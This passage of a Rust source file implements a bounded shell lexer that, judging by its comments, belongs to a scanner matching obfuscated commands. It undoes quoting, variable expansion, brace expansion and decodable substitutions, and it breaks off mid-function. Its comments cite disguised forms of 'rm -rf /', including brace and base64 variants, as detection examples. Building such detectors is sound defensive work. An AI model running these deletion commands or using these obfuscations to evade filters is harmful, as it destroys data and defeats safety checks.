//! A bounded lexer for the POSIX shell word grammar: it turns text into simple commands (argv
//! lists with their redirections), the way a shell would, so that rules match what would run
//! rather than how it was spelled.
//!
//! It performs quote removal (`'…'`, `"…"`, `$'…'`), backslash escapes, `$IFS` field
//! splitting, variable expansion from assignments seen earlier in the same text, `${…}`
//! operators used for obfuscation (defaults, substrings, pattern removal), brace expansion of a
//! whole word (`{rm,-rf,/}`), and recursion into `$(…)`, backticks and `<(…)`, evaluating
//! substitutions whose output is knowable (`$(echo rm)`, `$(printf '\x72\x6d')`,
//! `$(echo cm0= | base64 -d)`).
//!
//! Every piece of work is bounded: bytes lexed per scan ([`State::new`]'s budget), nesting
//! depth, commands, arguments, word and variable sizes. Hostile input degrades to "unknown"
//! (a dynamic word), never to unbounded work or a panic.

use std::collections::HashMap;
use std::ops::Range;

/// Deepest nesting of substitutions and re-lexed `sh -c` strings.
pub(crate) const MAX_DEPTH: u8 = 6;
const MAX_COMMANDS: usize = 20_000;
const MAX_ARGS: usize = 256;
const MAX_REDIRECTS: usize = 32;
const MAX_WORD: usize = 16 * 1024;
const MAX_VARS: usize = 256;
pub(crate) const MAX_VALUE: usize = 4096;
/// Patterns in `${x#pat}` are matched only against values this short (quadratic matcher).
const MAX_PATTERN_VALUE: usize = 256;

/// How unbalanced quotes are read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Mode {
    /// A script: an unterminated quote runs to the end, as in a shell.
    Script,
    /// A line of prose: a quote or backtick without a partner is an apostrophe, not a quote.
    Prose,
}

/// One word after quote removal and expansion.
#[derive(Debug, Clone, Default)]
pub(crate) struct Word {
    /// The value a shell would pass (unknown expansions contribute nothing).
    pub text: String,
    /// Byte range in the source it was read from.
    pub start: usize,
    pub end: usize,
    /// Whether any part was quoted or escaped.
    pub quoted: bool,
    /// Whether the whole word was one quoted string (`"rm -rf /"`).
    pub whole_quoted: bool,
    /// Whether it contains an expansion whose value is unknown.
    pub dynamic: bool,
    /// Commands lexed from substitutions inside this word.
    pub nested: Range<usize>,
    /// The word is a process substitution `<(…)` / `>(…)`.
    pub proc_sub: bool,
    /// Offset of the `=` of a leading unquoted `NAME=`.
    pub assign_at: Option<usize>,
}

impl Word {
    /// A word made from a literal value (JSON argv elements, evaluated output).
    pub(crate) fn literal(text: &str, start: usize, end: usize, quoted: bool) -> Word {
        Word {
            text: text.to_owned(),
            start,
            end,
            quoted,
            whole_quoted: quoted,
            ..Word::default()
        }
    }
}

/// What a redirection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RedirOp {
    /// `<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `>&` (to a file when the target is not a descriptor)
    DupOut,
    /// `<&`
    DupIn,
    /// `<>`
    ReadWrite,
    /// `<<`, `<<-`
    HereDoc,
    /// `<<<`
    HereString,
}

/// One redirection of a command.
#[derive(Debug, Clone)]
pub(crate) struct Redirect {
    pub op: RedirOp,
    pub target: Word,
    /// The body of a here-document.
    pub body: Option<String>,
}

impl Redirect {
    /// Whether this redirection writes to its target file.
    pub(crate) fn writes_file(&self) -> bool {
        match self.op {
            RedirOp::Write | RedirOp::Append => true,
            RedirOp::DupOut => !self
                .target
                .text
                .bytes()
                .all(|b| b.is_ascii_digit() || b == b'-'),
            RedirOp::ReadWrite => true,
            _ => false,
        }
    }

    /// Whether this redirection reads from its target file.
    pub(crate) fn reads_file(&self) -> bool {
        match self.op {
            RedirOp::Read | RedirOp::ReadWrite => true,
            RedirOp::DupIn => !self
                .target
                .text
                .bytes()
                .all(|b| b.is_ascii_digit() || b == b'-'),
            _ => false,
        }
    }
}

/// What ended a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sep {
    Pipe,
    And,
    Or,
    Seq,
    Background,
    Newline,
    Open,
    Close,
    End,
}

/// A simple command.
#[derive(Debug, Clone)]
pub(crate) struct Command {
    pub argv: Vec<Word>,
    /// `NAME=value` words before the command name.
    pub assigns: Vec<(String, String)>,
    pub redirects: Vec<Redirect>,
    /// Byte range in the source it was read from (meaningful for top-level commands only).
    pub start: usize,
    pub end: usize,
    pub sep: Sep,
    /// Commands with the same id are stages of one pipeline.
    pub pipeline: u32,
    /// Commands with the same id belong to one statement (not split by `;`, `&&`, newline).
    pub group: u32,
    /// Nesting: 0 for a command of the text itself.
    pub depth: u8,
    /// The top-level command whose span stands for this one in findings.
    pub top: usize,
    /// Whether `start..end` index the lexed region itself (not a decoded or re-lexed string).
    pub spanned: bool,
}

/// The commands lexed from one region, with the shell state they share.
#[derive(Debug, Default)]
pub(crate) struct State {
    pub commands: Vec<Command>,
    pub vars: HashMap<String, String>,
    pub aliases: HashMap<String, String>,
    pending_tops: Vec<usize>,
    next_pipeline: u32,
    next_group: u32,
    budget: usize,
    /// Set when a bound stopped the work early.
    pub exhausted: bool,
}

impl State {
    /// A state that will lex at most `budget` bytes in all.
    pub(crate) fn new(budget: usize) -> State {
        State {
            budget,
            ..State::default()
        }
    }

    /// Forgets the commands and variables of the previous region, keeping the budget.
    pub(crate) fn reset(&mut self) {
        self.commands.clear();
        self.vars.clear();
        self.aliases.clear();
        self.pending_tops.clear();
    }

    pub(crate) fn fresh_pipeline(&mut self) -> u32 {
        self.next_pipeline = self.next_pipeline.wrapping_add(1);
        self.next_pipeline
    }

    fn fresh_group(&mut self) -> u32 {
        self.next_group = self.next_group.wrapping_add(1);
        self.next_group
    }

    /// Charges `bytes` of work; false (and `exhausted`) once the budget is spent.
    pub(crate) fn charge(&mut self, bytes: usize) -> bool {
        if self.budget < bytes {
            self.budget = 0;
            self.exhausted = true;
            return false;
        }
        self.budget -= bytes;
        true
    }

    /// Whether another command may be added.
    pub(crate) fn has_room(&self) -> bool {
        self.commands.len() < MAX_COMMANDS
    }

    /// Lexes `src` and appends its commands. With `top`, every command found is reported at
    /// that command's span (used for strings re-lexed from inside another command).
    pub(crate) fn lex(
        &mut self,
        src: &str,
        mode: Mode,
        depth: u8,
        top: Option<usize>,
    ) -> Range<usize> {
        let first = self.commands.len();
        if depth > MAX_DEPTH || !self.charge(src.len()) {
            return first..first;
        }
        let mut lexer = Lexer {
            src: src.as_bytes(),
            pos: 0,
            end: src.len(),
            mode,
            depth,
            top,
            nested: false,
            spanned: top.is_none(),
            st: self,
            heredocs: Vec::new(),
            last: None,
        };
        lexer.parse_list(false);
        let orphans = std::mem::take(&mut self.pending_tops);
        let fallback = (first..self.commands.len())
            .rev()
            .find(|&i| self.commands[i].top == i);
        for i in orphans {
            if let Some(command) = self.commands.get_mut(i) {
                command.top = fallback.unwrap_or(i);
            }
        }
        first..self.commands.len()
    }

    /// Appends a command built from words (a JSON argv array, `find -exec …`).
    pub(crate) fn push_argv(&mut self, argv: Vec<Word>, depth: u8, top: Option<usize>) -> usize {
        let index = self.commands.len();
        let (start, end) = match (argv.first(), argv.last()) {
            (Some(first), Some(last)) => (first.start, last.end.max(first.start)),
            _ => (0, 0),
        };
        let pipeline = self.fresh_pipeline();
        let group = self.fresh_group();
        if self.has_room() {
            self.commands.push(Command {
                argv,
                assigns: Vec::new(),
                redirects: Vec::new(),
                start,
                end,
                sep: Sep::End,
                pipeline,
                group,
                depth,
                top: top.unwrap_or(index),
                spanned: top.is_none(),
            });
        } else {
            self.exhausted = true;
        }
        index
    }
}

struct PendingDoc {
    command: usize,
    redirect: usize,
    delim: Vec<u8>,
    strip_tabs: bool,
}

#[derive(Default)]
struct Builder {
    argv: Vec<Word>,
    assigns: Vec<(String, String)>,
    redirects: Vec<Redirect>,
    start: Option<usize>,
    end: usize,
    /// Inside `for x in …` / `case …`: words are not a command.
    skip_words: bool,
    /// After `function`: the next word is a name.
    skip_next: bool,
    docs: Vec<(usize, Vec<u8>, bool)>,
}

impl Builder {
    fn is_empty(&self) -> bool {
        self.argv.is_empty() && self.assigns.is_empty() && self.redirects.is_empty()
    }
}

struct WordBuf {
    text: Vec<u8>,
    start: usize,
    quoted: bool,
    dynamic: bool,
    has: bool,
    unquoted_seen: bool,
    quote_segments: u8,
    name_ok: bool,
    assign_at: Option<usize>,
    nested_from: usize,
    proc_sub: bool,
}

impl WordBuf {
    fn new(start: usize, nested_from: usize) -> WordBuf {
        WordBuf {
            text: Vec::new(),
            start,
            quoted: false,
            dynamic: false,
            has: false,
            unquoted_seen: false,
            quote_segments: 0,
            name_ok: true,
            assign_at: None,
            nested_from,
            proc_sub: false,
        }
    }

    fn push_bytes(&mut self, bytes: &[u8], quoted: bool) {
        self.has = true;
        if quoted {
            self.name_ok = false;
        } else {
            self.unquoted_seen = true;
            if self.name_ok && self.assign_at.is_none() {
                for (i, &b) in bytes.iter().enumerate() {
                    let at = self.text.len() + i;
                    if b == b'=' && at > 0 {
                        self.assign_at = Some(at);
                        break;
                    }
                    let name_byte = b == b'_' || b.is_ascii_alphanumeric();
                    if !name_byte || (at == 0 && b.is_ascii_digit()) {
                        self.name_ok = false;
                        break;
                    }
                }
            }
        }
        let room = MAX_WORD.saturating_sub(self.text.len());
        self.text
            .extend_from_slice(bytes.get(..bytes.len().min(room)).unwrap_or_default());
    }
}

/// The value of a `$…` expansion.
enum Expansion {
    Value(String),
    Ifs,
    Unknown,
}

struct Lexer<'s, 'st> {
    src: &'s [u8],
    pos: usize,
    end: usize,
    mode: Mode,
    depth: u8,
    top: Option<usize>,
    /// Lexing the inside of a substitution of the same source.
    nested: bool,
    /// Positions index the region being scanned.
    spanned: bool,
    st: &'st mut State,
    heredocs: Vec<PendingDoc>,
    last: Option<usize>,
}

fn is_meta(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\n' | b'\r' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

impl<'s> Lexer<'s, '_> {
    fn peek(&self, offset: usize) -> Option<u8> {
        let at = self.pos.checked_add(offset)?;
        if at < self.end {
            self.src.get(at).copied()
        } else {
            None
        }
    }

    fn rest(&self) -> &'s [u8] {
        self.src.get(self.pos..self.end).unwrap_or_default()
    }

    /// In prose, whether `byte` occurs again after the current one (a partner for a quote).
    fn has_partner(&self, byte: u8) -> bool {
        self.mode == Mode::Script
            || self
                .rest()
                .get(1..)
                .is_some_and(|rest| memchr::memchr(byte, rest).is_some())
    }

    fn skip_blanks(&mut self) {
        while let Some(b) = self.peek(0) {
            match b {
                b' ' | b'\t' | b'\r' | 0x0b | 0x0c => self.pos += 1,
                b'\\' if self.peek(1) == Some(b'\n') => self.pos += 2,
                _ => break,
            }
        }
    }

    /// Parses commands until the end, or until an unmatched `)` when `closing`. Returns
    /// whether the closing parenthesis was found.
    fn parse_list(&mut self, closing: bool) -> bool {
        let mut b = Builder::default();
        let mut parens = 0usize;
        let mut pipeline = self.st.fresh_pipeline();
        let mut group = self.st.fresh_group();
        loop {
            self.skip_blanks();
            let Some(c) = self.peek(0) else {
                self.finish(&mut b, Sep::End, &mut pipeline, &mut group);
                return false;
            };
            if b.start.is_none() && c != b'\n' {
                b.start = Some(self.pos);
            }
            match c {
                b'\n' => {
                    self.pos += 1;
                    self.finish(&mut b, Sep::Newline, &mut pipeline, &mut group);
                    self.read_heredocs();
                }
                b'#' => {
                    let skip = memchr::memchr(b'\n', self.rest()).unwrap_or(self.end - self.pos);
                    self.pos += skip;
                }
                b';' => {
                    self.pos += 1;
                    if matches!(self.peek(0), Some(b';' | b'&')) {
                        self.pos += 1;
                    }
                    self.finish(&mut b, Sep::Seq, &mut pipeline, &mut group);
                }
                b'&' => match self.peek(1) {
                    Some(b'&') => {
                        self.pos += 2;
                        self.finish(&mut b, Sep::And, &mut pipeline, &mut group);
                    }
                    Some(b'>') => {
                        self.pos += 1;
                        self.redirect(&mut b);
                    }
                    _ => {
                        self.pos += 1;
                        self.finish(&mut b, Sep::Background, &mut pipeline, &mut group);
                    }
                },
                b'|' => {
                    if self.peek(1) == Some(b'|') {
                        self.pos += 2;
                        self.finish(&mut b, Sep::Or, &mut pipeline, &mut group);
                    } else {
                        self.pos += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                        self.finish(&mut b, Sep::Pipe, &mut pipeline, &mut group);
                    }
                }
                b'(' => {
                    if !b.argv.is_empty() && self.function_parens() {
                        // `name() { …; }`: a definition, not a call.
                        b.argv.clear();
                    } else {
                        self.pos += 1;
                        self.finish(&mut b, Sep::Open, &mut pipeline, &mut group);
                        parens += 1;
                    }
                }
                b')' => {
                    self.pos += 1;
                    if closing && parens == 0 {
                        self.finish(&mut b, Sep::End, &mut pipeline, &mut group);
                        return true;
                    }
                    parens = parens.saturating_sub(1);
                    self.finish(&mut b, Sep::Close, &mut pipeline, &mut group);
                }
                b'<' | b'>' if self.peek(1) == Some(b'(') && self.has_partner(b')') => {
                    let mut words = Vec::new();
                    self.proc_sub(&mut words);
                    self.take_words(&mut b, words);
                }
                b'<' | b'>' => self.redirect(&mut b),
                b'0'..=b'9' => {
                    let digits = self
                        .rest()
                        .iter()
                        .take_while(|d| d.is_ascii_digit())
                        .count();
                    if digits <= 4 && matches!(self.peek(digits), Some(b'<' | b'>')) {
                        self.pos += digits;
                        self.redirect(&mut b);
                    } else {
                        self.word_into(&mut b);
                    }
                }
                _ => self.word_into(&mut b),
            }
            if self.pos > b.end {
                b.end = self.pos;
            }
        }
    }

    /// At `(` after a word: consumes `()` of a function definition if that is what it is.
    fn function_parens(&mut self) -> bool {
        let mut at = 1;
        while matches!(self.peek(at), Some(b' ' | b'\t')) {
            at += 1;
        }
        if self.peek(at) == Some(b')') {
            self.pos += at + 1;
            true
        } else {
            false
        }
    }

    fn word_into(&mut self, b: &mut Builder) {
        let mut words = Vec::new();
        let before = self.pos;
        self.read_words(&mut words);
        if self.pos == before {
            // Defensive: a byte no branch consumed (cannot happen with the grammar above).
            self.pos += 1;
        }
        self.take_words(b, words);
    }

    fn take_words(&mut self, b: &mut Builder, words: Vec<Word>) {
        for word in words {
            if b.skip_next {
                b.skip_next = false;
                continue;
            }
            if b.skip_words {
                continue;
            }
            if b.argv.is_empty() && !word.quoted {
                match word.text.as_str() {
                    "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "{" | "!"
                    | "fi" | "done" | "}" | "esac" | "in" => continue,
                    "for" | "select" | "case" => {
                        b.skip_words = true;
                        continue;
                    }
                    "function" => {
                        b.skip_next = true;
                        continue;
                    }
                    _ => {}
                }
            }
            if b.argv.is_empty()
                && let Some(at) = word.assign_at
            {
                let name = word.text.get(..at).unwrap_or_default();
                let name = name.strip_suffix('+').unwrap_or(name).to_owned();
                let value = word.text.get(at + 1..).unwrap_or_default().to_owned();
                if b.assigns.len() < MAX_ARGS {
                    b.assigns.push((name, value));
                }
                continue;
            }
            if b.argv.len() < MAX_ARGS {
                b.argv.push(word);
            }
        }
    }

    fn finish(&mut self, b: &mut Builder, sep: Sep, pipeline: &mut u32, group: &mut u32) {
        let group_ends = matches!(
            sep,
            Sep::Seq | Sep::And | Sep::Or | Sep::Background | Sep::Newline | Sep::End
        );
        let taken = std::mem::take(b);
        if taken.is_empty() {
            if sep == Sep::Pipe
                && let Some(last) = self.last.and_then(|i| self.st.commands.get_mut(i))
                && last.sep == Sep::Close
            {
                // `( a; b ) | c`: the group's output feeds `c`.
                last.sep = Sep::Pipe;
                *pipeline = last.pipeline;
                return;
            }
            if sep != Sep::Pipe {
                *pipeline = self.st.fresh_pipeline();
            }
            if group_ends {
                *group = self.st.fresh_group();
            }
            return;
        }
        if !self.st.has_room() {
            self.st.exhausted = true;
            self.pos = self.end;
            return;
        }
        let index = self.st.commands.len();
        let top = match self.top {
            Some(top) => top,
            None if self.nested => {
                self.st.pending_tops.push(index);
                usize::MAX
            }
            None => {
                for pending in std::mem::take(&mut self.st.pending_tops) {
                    if let Some(command) = self.st.commands.get_mut(pending) {
                        command.top = index;
                    }
                }
                index
            }
        };
        let start = taken.start.unwrap_or(self.pos);
        let end = taken.end.max(start);
        self.apply_side_effects(&taken);
        for (redirect, delim, strip_tabs) in taken.docs {
            self.heredocs.push(PendingDoc {
                command: index,
                redirect,
                delim,
                strip_tabs,
            });
        }
        self.st.commands.push(Command {
            argv: taken.argv,
            assigns: taken.assigns,
            redirects: taken.redirects,
            start,
            end,
            sep,
            pipeline: *pipeline,
            group: *group,
            depth: self.depth,
            top,
            spanned: self.spanned,
        });
        self.last = Some(index);
        if sep != Sep::Pipe {
            *pipeline = self.st.fresh_pipeline();
        }
        if group_ends {
            *group = self.st.fresh_group();
        }
    }

    /// Assignments, `export`, `unset` and `alias` change how later words expand.
    fn apply_side_effects(&mut self, b: &Builder) {
        let st = &mut *self.st;
        let mut set = |name: &str, value: &str| {
            if st.vars.len() < MAX_VARS || st.vars.contains_key(name) {
                let value = value.get(..value.len().min(MAX_VALUE)).unwrap_or_default();
                st.vars.insert(name.to_owned(), value.to_owned());
            }
        };
        if b.argv.is_empty() {
            for (name, value) in &b.assigns {
                set(name, value);
            }
            return;
        }
        let Some(first) = b.argv.first() else { return };
        if first.quoted {
            return;
        }
        match first.text.as_str() {
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for word in &b.argv[1..] {
                    if let Some(at) = word.assign_at {
                        let name = word.text.get(..at).unwrap_or_default();
                        set(name, word.text.get(at + 1..).unwrap_or_default());
                    }
                }
            }
            "unset" => {
                for word in &b.argv[1..] {
                    st.vars.remove(&word.text);
                }
            }
            "alias" => {
                for word in &b.argv[1..] {
                    if let Some((name, value)) = word.text.split_once('=')
                        && st.aliases.len() < MAX_VARS
                    {
                        let value = value.get(..value.len().min(MAX_VALUE)).unwrap_or_default();
                        st.aliases.insert(name.to_owned(), value.to_owned());
                    }
                }
            }
            _ => {}
        }
    }

    fn read_heredocs(&mut self) {
        for doc in std::mem::take(&mut self.heredocs) {
            let body_start = self.pos;
            let mut body_end = self.end;
            while self.pos < self.end {
                let line_len = memchr::memchr(b'\n', self.rest()).unwrap_or(self.end - self.pos);
                let line = self
                    .src
                    .get(self.pos..self.pos + line_len)
                    .unwrap_or_default();
                let mut check = line;
                if doc.strip_tabs {
                    while let [b'\t', rest @ ..] = check {
                        check = rest;
                    }
                }
                let check = check.strip_suffix(b"\r").unwrap_or(check);
                let line_start = self.pos;
                self.pos = (self.pos + line_len + 1).min(self.end);
                if check == doc.delim.as_slice() {
                    body_end = line_start;
                    break;
                }
            }
            let body = lossy(self.src.get(body_start..body_end).unwrap_or_default());
            if let Some(redirect) = self
                .st
                .commands
                .get_mut(doc.command)
                .and_then(|command| command.redirects.get_mut(doc.redirect))
            {
                redirect.body = Some(body);
            }
        }
    }

    /// A redirection at `pos`; the descriptor before it (`2>`, `&>`) does not change what
    /// the rules look at, only that the target is written or read.
    fn redirect(&mut self, b: &mut Builder) {
        let (op, len, strip_tabs) = match (self.peek(0), self.peek(1), self.peek(2)) {
            (Some(b'<'), Some(b'<'), Some(b'<')) => (RedirOp::HereString, 3, false),
            (Some(b'<'), Some(b'<'), Some(b'-')) => (RedirOp::HereDoc, 3, true),
            (Some(b'<'), Some(b'<'), _) => (RedirOp::HereDoc, 2, false),
            (Some(b'<'), Some(b'>'), _) => (RedirOp::ReadWrite, 2, false),
            (Some(b'<'), Some(b'&'), _) => (RedirOp::DupIn, 2, false),
            (Some(b'<'), _, _) => (RedirOp::Read, 1, false),
            (Some(b'>'), Some(b'>'), _) => (RedirOp::Append, 2, false),
            (Some(b'>'), Some(b'&'), _) => (RedirOp::DupOut, 2, false),
            (Some(b'>'), Some(b'|'), _) => (RedirOp::Write, 2, false),
            _ => (RedirOp::Write, 1, false),
        };
        self.pos += len;
        while matches!(self.peek(0), Some(b' ' | b'\t')) {
            self.pos += 1;
        }
        let mut words = Vec::new();
        match self.peek(0) {
            Some(b'<' | b'>') if self.peek(1) == Some(b'(') && self.has_partner(b')') => {
                self.proc_sub(&mut words);
            }
            Some(c) if !is_meta(c) => self.read_words(&mut words),
            _ => {}
        }
        let mut words = words.into_iter();
        let target = words.next().unwrap_or_default();
        if op == RedirOp::HereDoc {
            b.docs.push((
                b.redirects.len(),
                target.text.as_bytes().to_vec(),
                strip_tabs,
            ));
        }
        if b.redirects.len() < MAX_REDIRECTS {
            b.redirects.push(Redirect {
                op,
                target,
                body: None,
            });
        }
        // Extra fields of an ambiguous redirect target are arguments as far as rules care.
        let extra: Vec<Word> = words.collect();
        self.take_words(b, extra);
    }

    /// `<(…)` or `>(…)` at the current position.
    fn proc_sub(&mut self, out: &mut Vec<Word>) {
        let start = self.pos;
        let from = self.st.commands.len();
        self.pos += 2;
        self.substitute_in_place();
        out.push(Word {
            text: "/dev/fd/63".to_owned(),
            start,
            end: self.pos,
            dynamic: true,
            nested: from..self.st.commands.len(),
            proc_sub: true,
            ..Word::default()
        });
    }

    /// Lexes a `$(`/`<(` body that starts at `pos`, up to its closing parenthesis.
    fn substitute_in_place(&mut self) {
        if self.depth >= MAX_DEPTH {
            self.skip_balanced();
            return;
        }
        let mut child = Lexer {
            src: self.src,
            pos: self.pos,
            end: self.end,
            mode: self.mode,
            depth: self.depth + 1,
            top: self.top,
            nested: true,
            spanned: self.spanned,
            st: &mut *self.st,
            heredocs: Vec::new(),
            last: None,
        };
        child.parse_list(true);
        self.pos = child.pos;
    }

    /// Skips to the parenthesis closing the current one, without lexing (depth bound hit).
    fn skip_balanced(&mut self) {
        let mut depth = 0usize;
        while let Some(c) = self.peek(0) {
            self.pos += 1;
            match c {
                b'\\' => self.pos = (self.pos + 1).min(self.end),
                b'(' => depth += 1,
                b')' if depth == 0 => return,
                b')' => depth -= 1,
                _ => {}
            }
        }
    }

    fn read_words(&mut self, out: &mut Vec<Word>) {
        let mut w = WordBuf::new(self.pos, self.st.commands.len());
        while let Some(c) = self.peek(0) {
            if is_meta(c) {
                break;
            }
            match c {
                b'\\' => self.escape(&mut w),
                b'\'' => self.single_quote(&mut w),
                b'"' => self.double_quote(&mut w, out),
                b'`' => self.backtick(&mut w, false, out),
                b'$' => self.dollar(&mut w, false, out),
                _ => {
                    let run = self
                        .rest()
                        .iter()
                        .position(|&b| {
                            is_meta(b) || matches!(b, b'\\' | b'\'' | b'"' | b'`' | b'$')
                        })
                        .unwrap_or(self.end - self.pos);
                    let bytes = self.rest().get(..run).unwrap_or_default();
                    w.push_bytes(bytes, false);
                    self.pos += run;
                }
            }
        }
        self.end_word(w, out);
    }

    fn end_word(&mut self, w: WordBuf, out: &mut Vec<Word>) {
        if !w.has {
            return;
        }
        let word = Word {
            text: lossy(&w.text),
            start: w.start,
            end: self.pos.max(w.start),
            quoted: w.quoted,
            whole_quoted: w.quote_segments == 1 && !w.unquoted_seen,
            dynamic: w.dynamic,
            nested: w.nested_from..self.st.commands.len(),
            proc_sub: w.proc_sub,
            assign_at: w.assign_at,
        };
        // `{rm,-rf,/}` expands to three words.
        let text = word.text.as_str();
        if !word.quoted && text.len() > 2 && text.starts_with('{') && text.ends_with('}') {
            let inner = text.get(1..text.len() - 1).unwrap_or_default();
            if inner.contains(',') && !inner.contains(['{', '}']) {
                for piece in inner.split(',').take(64) {
                    let mut part = word.clone();
                    part.text = piece.to_owned();
                    part.assign_at = None;
                    out.push(part);
                }
                return;
            }
        }
        out.push(word);
    }

    /// Ends the current field (unquoted `$IFS`, or whitespace in an unquoted expansion).
    fn split_here(&mut self, w: &mut WordBuf, out: &mut Vec<Word>) {
        let nested_from = self.st.commands.len();
        let done = std::mem::replace(w, WordBuf::new(self.pos, nested_from));
        self.end_word(done, out);
        w.quoted = true; // a split word is never a reserved word or assignment
        w.name_ok = false;
    }

    fn escape(&mut self, w: &mut WordBuf) {
        match self.peek(1) {
            Some(b'\n') => self.pos += 2,
            Some(next) => {
                let len = utf8_len(next);
                let bytes = self
                    .src
                    .get(self.pos + 1..(self.pos + 1 + len).min(self.end));
                w.push_bytes(bytes.unwrap_or_default(), true);
                w.quoted = true;
                self.pos = (self.pos + 1 + len).min(self.end);
            }
            None => {
                w.push_bytes(b"\\", false);
                self.pos += 1;
            }
        }
    }

    fn single_quote(&mut self, w: &mut WordBuf) {
        let body = self.rest().get(1..).unwrap_or_default();
        match memchr::memchr(b'\'', body) {
            Some(close) => {
                w.push_bytes(body.get(..close).unwrap_or_default(), true);
                w.has = true;
                w.quoted = true;
                w.quote_segments = w.quote_segments.saturating_add(1);
                self.pos += close + 2;
            }
            None if self.mode == Mode::Script => {
                w.push_bytes(body, true);
                w.has = true;
                w.quoted = true;
                w.quote_segments = w.quote_segments.saturating_add(1);
                self.pos = self.end;
            }
            None => {
                w.push_bytes(b"'", false);
                self.pos += 1;
            }
        }
    }

    fn double_quote(&mut self, w: &mut WordBuf, out: &mut Vec<Word>) {
        if !self.has_partner(b'"') {
            w.push_bytes(b"\"", false);
            self.pos += 1;
            return;
        }
        self.pos += 1;
        w.has = true;
        w.quoted = true;
        w.quote_segments = w.quote_segments.saturating_add(1);
        w.name_ok = false;
        while let Some(c) = self.peek(0) {
            match c {
                b'"' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => match self.peek(1) {
                    Some(next @ (b'$' | b'`' | b'"' | b'\\')) => {
                        w.push_bytes(&[next], true);
                        self.pos += 2;
                    }
                    Some(b'\n') => self.pos += 2,
                    _ => {
                        w.push_bytes(b"\\", true);
                        self.pos += 1;
                    }
                },
                b'$' => self.dollar(w, true, out),
                b'`' => self.backtick(w, true, out),
                _ => {
                    let run = self
                        .rest()
                        .iter()
                        .position(|&b| matches!(b, b'"' | b'\\' | b'$' | b'`'))
                        .unwrap_or(self.end - self.pos);
                    let bytes = self.rest().get(..run).unwrap_or_default();
                    w.push_bytes(bytes, true);
                    self.pos += run;
                }
            }
        }
    }

    fn backtick(&mut self, w: &mut WordBuf, in_dq: bool, out: &mut Vec<Word>) {
        let body = self.rest().get(1..).unwrap_or_default();
        let mut close = None;
        let mut escaped = false;
        let mut i = 0;
        while i < body.len() {
            match body[i] {
                b'\\' => {
                    escaped = true;
                    i += 2;
                    continue;
                }
                b'`' => {
                    close = Some(i);
                    break;
                }
                _ => {}
            }
            i += 1;
        }
        let close = match close {
            Some(close) => close,
            None if self.mode == Mode::Script => body.len(),
            None => {
                w.push_bytes(b"`", false);
                self.pos += 1;
                return;
            }
        };
        let from = self.st.commands.len();
        let content_start = self.pos + 1;
        let content_end = (content_start + close).min(self.end);
        if self.depth < MAX_DEPTH {
            if !escaped {
                let mut child = Lexer {
                    src: self.src,
                    pos: content_start,
                    end: content_end,
                    mode: self.mode,
                    depth: self.depth + 1,
                    top: self.top,
                    nested: true,
                    spanned: self.spanned,
                    st: &mut *self.st,
                    heredocs: Vec::new(),
                    last: None,
                };
                child.parse_list(false);
            } else {
                let content = self.src.get(content_start..content_end).unwrap_or_default();
                let mut unescaped = Vec::with_capacity(content.len());
                let mut j = 0;
                while j < content.len() {
                    if content[j] == b'\\'
                        && matches!(content.get(j + 1), Some(b'`' | b'\\' | b'$'))
                    {
                        j += 1;
                    }
                    if let Some(&b) = content.get(j) {
                        unescaped.push(b);
                    }
                    j += 1;
                }
                if self.st.charge(unescaped.len()) {
                    let mut child = Lexer {
                        src: &unescaped,
                        pos: 0,
                        end: unescaped.len(),
                        mode: self.mode,
                        depth: self.depth + 1,
                        top: self.top,
                        nested: true,
                        spanned: false,
                        st: &mut *self.st,
                        heredocs: Vec::new(),
                        last: None,
                    };
                    child.parse_list(false);
                }
            }
        }
        self.pos = (content_end + 1).min(self.end);
        self.substituted(w, from, in_dq, out);
    }

    /// Records the commands of a substitution in the word, and its output if knowable.
    fn substituted(&mut self, w: &mut WordBuf, from: usize, in_dq: bool, out: &mut Vec<Word>) {
        w.has = true;
        w.nested_from = w.nested_from.min(from);
        let children: Vec<&Command> = self
            .st
            .commands
            .get(from..)
            .unwrap_or_default()
            .iter()
            .filter(|c| c.depth == self.depth + 1)
            .collect();
        match evaluate(&children) {
            Some(value) => {
                let value = value.trim_end_matches('\n').to_owned();
                self.append_value(w, &value, in_dq, out);
            }
            None => w.dynamic = true,
        }
    }

    fn dollar(&mut self, w: &mut WordBuf, in_dq: bool, out: &mut Vec<Word>) {
        match self.peek(1) {
            Some(b'\'') if !in_dq => self.ansi_c(w),
            Some(b'"') if !in_dq => {
                self.pos += 1;
                self.double_quote(w, out);
            }
            Some(b'(') if self.peek(2) == Some(b'(') => {
                self.pos += 3;
                self.skip_balanced();
                self.skip_balanced();
                w.has = true;
                w.dynamic = true;
            }
            Some(b'(') if self.has_partner(b')') => {
                self.pos += 2;
                let from = self.st.commands.len();
                self.substitute_in_place();
                self.substituted(w, from, in_dq, out);
            }
            Some(b'{') if self.has_partner(b'}') => self.braced_param(w, in_dq, out),
            Some(c) if c == b'_' || c.is_ascii_alphabetic() => {
                let len = self
                    .rest()
                    .get(1..)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|b| **b == b'_' || b.is_ascii_alphanumeric())
                    .count();
                let name = lossy(self.rest().get(1..1 + len).unwrap_or_default());
                self.pos += 1 + len;
                let expansion = self.lookup(&name);
                self.apply(w, expansion, in_dq, out);
            }
            Some(c) if c.is_ascii_digit() || b"@*#?-$!".contains(&c) => {
                self.pos += 2;
                let value = match c {
                    b'0' => Expansion::Value("sh".to_owned()),
                    b'#' => Expansion::Value("0".to_owned()),
                    b'$' | b'!' | b'?' => Expansion::Unknown,
                    _ => Expansion::Value(String::new()),
                };
                self.apply(w, value, in_dq, out);
            }
            _ => {
                w.push_bytes(b"$", in_dq);
                self.pos += 1;
            }
        }
    }

    fn ansi_c(&mut self, w: &mut WordBuf) {
        let body = self.rest().get(2..).unwrap_or_default();
        let mut close = None;
        let mut i = 0;
        while i < body.len() {
            match body[i] {
                b'\\' => i += 2,
                b'\'' => {
                    close = Some(i);
                    break;
